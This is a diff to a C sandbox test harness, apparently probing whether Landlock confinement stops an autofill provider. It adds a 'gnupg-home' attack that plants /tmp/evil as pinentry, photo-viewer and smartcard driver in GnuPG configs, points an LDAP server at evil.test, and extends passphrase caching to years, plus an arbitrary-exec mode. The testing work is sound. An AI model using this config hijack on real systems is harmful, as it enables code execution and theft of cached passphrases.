@@ -38,6 +38,12 @@
  *   chmod           chmod(Target, 0644): a file's mode by path (Landlock does not check it)
  *   run             fork + /bin/sh -c Target; reports "ok ran, status N: <the first line of its output>"
  *   connect-unix    connect to the Unix socket at the path Target
+ *   gnupg-home      Target is a GnuPG home: appends a line naming /tmp/evil as a program to each of
+ *                   gpg-agent.conf, common.conf, gpg.conf, scdaemon.conf and dirmngr.conf there, then
+ *                   runs `gpgconf --homedir Target --change-options gpg-agent` (setting
+ *                   max-cache-ttl to years) and `gpgconf --homedir Target --reload gpg-agent`; reports
+ *                   "ok gpg-agent.conf:<ok|errno> … change-options:<status> reload:<status>"
+ *   argv            fork + execv of Target split at '|' (argv[0] a path), output to /dev/null; "ok ran, status N"
  */
 #define _GNU_SOURCE
 #include "autofill_provider.h"
@@ -145,6 +151,50 @@ static void agent_lock(char *out, size_t size) {
     size_t text = got >= 9 ? 9 : got;
     reply[got] = 0;
     snprintf(out, size, "ok reply %02X %s", reply[4], (char *)reply + text);
+}
+
+/* Runs argv (argv[0] a path) with `input` on its standard input, output to /dev/null; its exit status. */
+static int run_program(char *const argv[], const char *input) {
+    int in[2];
+    if (pipe2(in, O_CLOEXEC) != 0) return -1;
+    pid_t child = fork();
+    if (child < 0) return -1;
+    if (child == 0) {
+        int null = open("/dev/null", O_WRONLY);
+        dup2(in[0], 0);
+        dup2(null, 1);
+        dup2(null, 2);
+        execv(argv[0], argv);
+        _exit(errno == EACCES ? 126 : 127);
+    }
+    close(in[0]);
+    if (input) (void)!write(in[1], input, strlen(input));
+    close(in[1]);
+    int status = 0;
+    waitpid(child, &status, 0);
+    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+}
+
+/* The gnupg-home attack: what a provider that could change its GnuPG home would do to run its own program outside. */
+static void gnupg_home(char *out, size_t size) {
+    static const char *const files[] = {"gpg-agent.conf", "common.conf", "gpg.conf", "scdaemon.conf", "dirmngr.conf"};
+    static const char *const lines[] = {"pinentry-program /tmp/evil\n", "use-keyboxd\n", "photo-viewer /tmp/evil\n",
+                                        "pcsc-driver /tmp/evil\n", "ldapserver ldap://evil.test\n"};
+    size_t used = (size_t)snprintf(out, size, "ok");
+    for (size_t i = 0; i < sizeof files / sizeof *files && used < size; i++) {
+        char path[1200];
+        snprintf(path, sizeof path, "%s/%s", target, files[i]);
+        int fd = open(path, O_CREAT | O_WRONLY | O_APPEND | O_CLOEXEC, 0600);
+        const char *result = "ok";
+        if (fd < 0 || write(fd, lines[i], strlen(lines[i])) < 0) result = strerrorname_np(errno) ? strerrorname_np(errno) : "?";
+        if (fd >= 0) close(fd);
+        used += (size_t)snprintf(out + used, size - used, " %s:%s", files[i], result);
+    }
+    char *change[] = {"/usr/bin/gpgconf", "--homedir", target, "--change-options", "gpg-agent", NULL};
+    char *reload[] = {"/usr/bin/gpgconf", "--homedir", target, "--reload", "gpg-agent", NULL};
+    int changed = run_program(change, "max-cache-ttl:0:99999999\n"); /* passphrases cached for years */
+    int reloaded = run_program(reload, NULL);
+    if (used < size) snprintf(out + used, size - used, " change-options:%d reload:%d", changed, reloaded);
 }
 
 static void run_attack(char *out, size_t size) {
@@ -366,6 +416,15 @@ static void run_attack(char *out, size_t size) {
         errno = code;
         if (status != 0) return denied(out, size, "connect");
         snprintf(out, size, "ok connected");
+    } else if (strcmp(attack, "gnupg-home") == 0) {
+        gnupg_home(out, size);
+    } else if (strcmp(attack, "argv") == 0) {
+        char *argv[16], copy[sizeof target];
+        int count = 0;
+        snprintf(copy, sizeof copy, "%s", target);
+        for (char *save = NULL, *part = strtok_r(copy, "|", &save); part && count < 15; part = strtok_r(NULL, "|", &save)) argv[count++] = part;
+        argv[count] = NULL;
+        snprintf(out, size, "ok ran, status %d", count ? run_program(argv, NULL) : -1);
     } else {
         snprintf(out, size, "unknown attack %s", attack);
     }
